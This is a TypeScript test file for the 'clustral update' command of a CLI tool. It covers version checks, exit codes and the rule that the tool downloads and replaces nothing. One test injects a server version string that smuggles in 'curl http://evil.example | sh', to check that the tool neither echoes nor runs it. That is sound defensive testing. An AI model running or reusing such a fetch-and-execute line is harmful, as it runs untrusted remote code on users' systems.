/** `clustral update` as a process: what it says, asks and never does. */
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { makeHome } from '../testing/command-line.ts';
import { signedIn, type SignedIn } from '../testing/signed-in.ts';

let me: SignedIn;
beforeAll(async () => {
  me = await signedIn();
});
afterAll(() => me.close());
beforeEach(() => me.reset());

const root = join(import.meta.dirname, '..', '..');
const command = `git -C ${root} pull && npm ci --prefix ${root}`;

/** Digest over every file of this tool. */
function digestOfTool(): string {
  const folder = join(root, 'cli');
  const files = readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && /\.(ts|mjs)$/.test(entry.name) && !entry.name.includes('.test.'))
    .map((entry) => join(entry.parentPath, entry.name));
  const digest = createHash('sha256');
  for (const file of files.toSorted()) digest.update(file).update(readFileSync(file));
  return digest.digest('hex');
}

describe('update', () => {
  it('says how to update what runs here, without a server', async () => {
    const home = makeHome();
    try {
      expect(await home.run(['update'])).toEqual({
        code: 0,
        stdout: `${command}\n`,
        stderr: 'clustral 0.1.0, installed as clone.\n',
      });
      expect(await home.run(['update', '--check'])).toMatchObject({
        code: 4,
        stderr: expect.stringContaining('profile default knows no server that could be asked'),
      });
    } finally {
      home.remove();
    }
  });

  it('tells with --check that nothing need be done, whether a session lives or not', async () => {
    me.changeAccount({ accessTokenExpiresAt: '2026-01-01T00:00:00.000Z' });
    expect(await me.run('update --check')).toEqual({
      code: 0,
      stdout: `This tool   0.1.0\nServer      0.1.0 (${me.installation.origin})\nAt least    0.1.0\nUpdate      none needed\n`,
      stderr: '',
    });
    expect(me.installation.state.calls).toMatchObject([{ method: 'GetVersion', token: '' }]);
    expect(JSON.parse((await me.run('update --check -o json')).stdout)).toEqual({
      version: '0.1.0',
      installed: 'clone',
      command,
      server: { url: me.installation.origin, version: '0.1.0', minimumCliVersion: '0.1.0' },
      upToDate: true,
    });
  });

  it('ends with 8 below the oldest version that the server answers', async () => {
    me.installation.state.minimumCliVersion = '0.2.0';
    const { code, stdout, stderr } = await me.run('update --check');
    expect(code).toBe(8);
    expect(stdout).toContain(`Update      ${command}\n`);
    expect(stderr).toContain('needs clustral 0.2.0 or newer, this is 0.1.0');
  });

  it('does not advise to go back to an older version (ID-15)', async () => {
    me.installation.state.minimumCliVersion = '0.0.1';
    me.installation.state.version = '0.0.9';
    expect((await me.run('update --check')).stdout).toContain('Update      none needed\n');
  });

  it('downloads nothing and replaces nothing, whatever the server says (ID-15)', async () => {
    me.installation.state.minimumCliVersion = '9.0.0; curl http://evil.example | sh';
    const before = digestOfTool();
    for (const line of ['update', 'update --pre', 'update --check', 'update --check --pre']) {
      const { stdout } = await me.run(line);
      expect(stdout).not.toContain('Update      9');
      expect(stdout).toContain(command);
    }
    expect(new Set(me.installation.state.calls.map(({ method }) => method))).toEqual(new Set(['GetVersion']));
    expect(digestOfTool()).toBe(before);
  });

  it('says so when the server is away', async () => {
    const home = makeHome();
    const folder = join(home.path, '.clustral', 'profiles', 'default');
    mkdirSync(folder, { recursive: true });
    const config = readFileSync(join(me.profile, 'config.json'), 'utf8');
    writeFileSync(join(folder, 'config.json'), config.replaceAll(me.installation.origin, 'https://localhost:1'));
    try {
      expect(await home.run(['update', '--check'])).toMatchObject({
        code: 7,
        stdout: '',
        stderr: expect.stringContaining('nothing listens at the address of the server'),
      });
    } finally {
      home.remove();
    }
  });
});
